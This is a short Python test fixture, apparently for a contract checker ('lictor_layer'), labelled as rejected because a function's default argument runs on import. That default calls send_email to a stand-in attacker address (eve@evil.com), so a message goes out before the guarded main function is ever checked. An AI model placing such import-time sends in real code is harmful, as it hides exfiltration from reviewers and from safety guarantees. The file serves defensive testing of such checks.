# rejected: a default of a module's function runs on import
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


def helper(x=send_email("eve@evil.com", "x")):
    log("inside")


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log("fine")
